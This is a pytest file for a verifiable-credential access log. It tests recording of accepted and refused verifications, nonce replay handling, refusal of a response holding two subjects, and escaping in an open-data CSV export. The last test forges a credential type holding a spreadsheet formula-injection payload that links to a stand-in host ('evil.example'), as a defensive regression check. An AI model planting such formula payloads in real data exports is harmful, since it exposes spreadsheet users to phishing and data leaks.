"""Every verification the verifier performs, accepted or refused, becomes an access-log entry.

The real flow: the city on the embedded chain issues with ``CityIssuer``, the bundle is synced, the
wallet answers a signed request, ``verify_and_record`` verifies offline and appends; then the log is
anchored and the resident reads exactly those entries, with proofs, and the names (never values) of
what they disclosed.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kaga_vc.accesslog import AccessLog, answer_challenge, read_history, verify_and_record
from kaga_vc.holder import create_wallet
from kaga_vc.verifier import CredentialQuery, NonceStore, Policy, create_request
from tests.verifier.conftest import FAST, PASSWORD, World, make_world

from .conftest import LOG_KEY

AGE = [CredentialQuery("KycCredential", ("ageOver18",))]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    yield from make_world(tmp_path_factory.mktemp("world"))


def test_accepted_and_refused_verifications_are_recorded(world: World, tmp_path: Path, anchorer: Any) -> None:
    issued = world.issue("sd-jwt")
    world.wallet.add(issued.document)
    revoked_holder = create_wallet(tmp_path / "w2.json", PASSWORD, scrypt_n=FAST)
    revoked = world.issue("sd-jwt", subject=revoked_holder.did)
    revoked_holder.add(revoked.document)
    world.issuer.status.revoke(revoked.id)
    bundle = world.bundle()
    policy = Policy(trusted_cities=(world.config.did,))
    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
        def present(wallet: Any) -> tuple[Any, Any]:
            req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE,
                                 location="Yamanaka Onsen front desk")
            answer = wallet.present(req.token)
            return verify_and_record(answer.compact, request=req.token, bundle=bundle.token, log=log,
                                     policy=policy, nonce_store=nonces, verifier_category="lodging")

        ok, first = present(world.wallet)
        refused, second = present(revoked_holder)
        # a replay of a good answer: refused too, and recorded
        req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
        answer = world.wallet.present(req.token).compact
        verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy, nonce_store=nonces)
        replay, third = verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
                                          nonce_store=nonces)
        # garbage: refused before any holder is known, still recorded
        garbage, fourth = verify_and_record("not a response", request=req.token, bundle=bundle.token, log=log,
                                            policy=policy, nonce_store=nonces)
    assert ok.verified and not refused.verified and not replay.verified and not garbage.verified
    # the KB-JWT proved the holder's key in the accepted, revoked and replayed cases; garbage proved nothing
    assert ok.details["holderProven"] and refused.details["holderProven"] and replay.details["holderProven"]
    assert not garbage.details.get("holderProven")
    assert (first.body["result"], first.body["purpose"], first.body["location"]) == (
        "accepted", "hotel check-in", "Yamanaka Onsen front desk")
    assert first.body["credentialTypes"] == ["KycCredential"] and first.body["verifierCategory"] == "lodging"
    assert (second.body["result"], second.body["reason"]) == ("refused", "kaga:credential-revoked")
    assert (third.body["result"], third.body["reason"]) == ("refused", "kaga:nonce-replayed")
    assert fourth.body["result"] == "refused" and fourth.body["subjectIndex"] is None
    assert len(log) == 5 and log.verify().ok
    log.anchor(anchorer)

    did, entries = log.subject_history(answer_challenge(log.create_challenge(), did=world.wallet.did,
                                                        signer=world.wallet.signer))
    items = read_history(did, entries, world.wallet._key, anchorer=anchorer)
    assert [i.seq for i in items] == [0, 2, 3]
    # the names of what was disclosed (the city's assuranceLevel is always shown), never the values
    assert set(items[0].claims) == set(ok.details["claims"]) and "ageOver18" in items[0].claims
    assert "fullName" not in items[0].claims
    assert [i.result for i in items] == ["accepted", "accepted", "refused"]
    assert all(i.proven and i.anchor_block for i in items)
    _, theirs = log.subject_history(answer_challenge(log.create_challenge(), did=revoked_holder.did,
                                                         signer=revoked_holder.signer))
    assert [e.entry.seq for e in theirs] == [1]
    log.close()


def test_a_failed_log_write_leaves_the_nonce_usable(world: World, tmp_path: Path) -> None:
    """Issue 13: the nonce is committed in one step with the log entry; the entry not written, the nonce is free."""
    from kaga_vc.verifier import parse_request, verify_response

    issued = world.issue("sd-jwt")
    world.wallet.add(issued.document)
    bundle = world.bundle()
    policy = Policy(trusted_cities=(world.config.did,))
    req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
    answer = world.wallet.present(req.token).compact
    nonce = parse_request(req.token)[0].nonce

    def broken_log(result: Any) -> None:
        assert result.verified  # the verification itself succeeded; only recording it fails
        raise OSError("disk full")

    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
        with pytest.raises(OSError, match="disk full"):
            verify_response(answer, request=req.token, bundle=bundle.token, policy=policy, nonce_store=nonces,
                            on_complete=broken_log)
        assert not nonces.is_used(nonce)
        ok, entry = verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
                                      nonce_store=nonces)
        assert ok.verified and entry.body["result"] == "accepted" and nonces.is_used(nonce)
        replay, _ = verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
                                      nonce_store=nonces)
    assert [p.code for p in replay.problems] == ["kaga:nonce-replayed"]
    assert len(log) == 2
    log.close()


def test_a_nonce_commit_that_never_happened_does_not_let_the_retry_count_twice(world: World, tmp_path: Path,
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """Issue 13: the entry was written, the nonce store's commit failed (a crash there); the retry is refused."""
    from kaga_vc.errors import NONCE_REPLAYED, ProofError
    from kaga_vc.verifier import nonces as nonce_module
    from kaga_vc.verifier import parse_request

    world.wallet.add(world.issue("sd-jwt").document)
    bundle = world.bundle()
    policy = Policy(trusted_cities=(world.config.did,))
    req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
    answer = world.wallet.present(req.token).compact
    nonce = parse_request(req.token)[0].nonce
    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
    commit = nonce_module.NonceReservation.commit

    def crash(self: Any) -> None:
        self.rollback()  # what the process's death does to the open SQLite transaction
        raise SystemExit("killed after the log write")

    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
        monkeypatch.setattr(nonce_module.NonceReservation, "commit", crash)
        with pytest.raises(SystemExit):
            verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
                              nonce_store=nonces)
        monkeypatch.setattr(nonce_module.NonceReservation, "commit", commit)
        assert len(log) == 1 and not nonces.is_used(nonce)
        with pytest.raises(ProofError) as info:
            verify_and_record(answer, request=req.token, bundle=bundle.token, log=log, policy=policy,
                              nonce_store=nonces)
        assert info.value.code == NONCE_REPLAYED
        assert len(log) == 1 and nonces.is_used(nonce)  # no second entry; the store caught up
    log.close()


def test_two_people_in_one_response_are_recorded_as_refused_under_neither(world: World, tmp_path: Path) -> None:
    """Issue 11: one response, one person. The refusal is recorded (kaga:multiple-subjects) but is
    indexed under neither person: recording it under the first would put the second person's
    credential types and claim names in the first person's history."""
    from kaga_vc.proofs.jose import present_sd_jwt
    from kaga_vc.verifier import PresentationResponse, encode_response

    minor = create_wallet(tmp_path / "minor.json", PASSWORD, scrypt_n=FAST)
    kyc = world.issue("sd-jwt")  # the adult: world.wallet
    residency = world.issuer.issue("residency", minor.did, {
        "fullName": "加賀 太郎", "fullNameKana": "カガ タロウ", "birthDate": "2012-02-03",
        "address": "石川県 加賀市 大聖寺南町 ニ41", "residentSince": "2015-04-01", "evidence": ["residenceCard"]},
        format="sd-jwt", staff="test")
    bundle = world.bundle()
    policy = Policy(trusted_cities=(world.config.did,))
    req = create_request(signer=world.verifier, purpose="hotel check-in",
                         credentials=[CredentialQuery("KycCredential", ("ageOver18",)),
                                      CredentialQuery("ResidencyCredential", ("residentOfKaga",))])
    shown = tuple(present_sd_jwt(str(issued.document), disclose=[claim], holder_signer=wallet.signer,
                                 audience=req.verifier, nonce=req.nonce)
                  for wallet, issued, claim in ((world.wallet, kyc, "ageOver18"), (minor, residency, "residentOfKaga")))
    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
        result, entry = verify_and_record(encode_response(PresentationResponse(req.id, shown)), request=req.token,
                                          bundle=bundle.token, log=log, policy=policy, nonce_store=nonces)
    assert not result.verified and result.details["claims"] == {}
    assert (entry.body["result"], entry.body["reason"]) == ("refused", "kaga:multiple-subjects")
    assert set(entry.body["credentialTypes"]) >= {"KycCredential", "ResidencyCredential"}
    assert entry.body["subjectIndex"] is None and result.subject is None and not result.details["holderProven"]
    for wallet in (world.wallet, minor):
        _, theirs = log.subject_history(answer_challenge(log.create_challenge(), did=wallet.did, signer=wallet.signer))
        assert theirs == []
    assert len(log) == 1 and log.verify().ok
    log.close()


def test_credential_types_of_refused_presentations_are_escaped_in_the_open_data_csv(world: World,
                                                                                     tmp_path: Path) -> None:
    """Issue 13: a self-made issuer's credential with a formula for a type, refused, reached the public CSV live."""
    import csv
    import time as clock

    from kaga_vc.accesslog import export_anonymized
    from kaga_vc.proofs.jose import issue_sd_jwt, present_sd_jwt
    from kaga_vc.verifier import PresentationResponse, encode_response
    from tests.verifier.conftest import did_key_signer

    formula = '=HYPERLINK("evil.example?x","click")'
    forger = did_key_signer()
    policy = Policy(trusted_cities=(world.config.did,))
    bundle = world.bundle()
    log = AccessLog.open(str(tmp_path / "log.db"), log_key=LOG_KEY, signer=world.verifier)
    residents = [world.wallet, create_wallet(tmp_path / "second.json", PASSWORD, scrypt_n=FAST)]
    with NonceStore(tmp_path / "nonces.sqlite3") as nonces:
        for wallet in residents:  # two residents: the cell is over k = 2 and published
            token = issue_sd_jwt({"iss": forger.key_id.split("#")[0], "vct": formula, "iat": int(clock.time()) - 60,
                                  "sub": wallet.did, "ageOver18": True}, signer=forger, disclosable=["ageOver18"],
                                 holder_key=wallet.signer.key.public_key)
            req = create_request(signer=world.verifier, purpose="hotel check-in", credentials=AGE)
            shown = present_sd_jwt(token, disclose=["ageOver18"], holder_signer=wallet.signer,
                                   audience=req.verifier, nonce=req.nonce)
            result, entry = verify_and_record(encode_response(PresentationResponse(req.id, (shown,))),
                                              request=req.token, bundle=bundle.token, log=log, policy=policy,
                                              nonce_store=nonces)
            assert not result.verified and entry.body["result"] == "refused"
            assert formula in entry.body["credentialTypes"], entry.body  # recorded as presented
            assert entry.body["subjectIndex"] is not None, (result.details.get("holderProven"), result.codes)
    export_anonymized(log, tmp_path / "open-data", k=2, bucket="month")
    log.close()
    rows = list(csv.reader((tmp_path / "open-data" / "access-counts.csv").open(encoding="utf-8", newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{formula}" in cells  # the type is there, as text
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in cells), cells
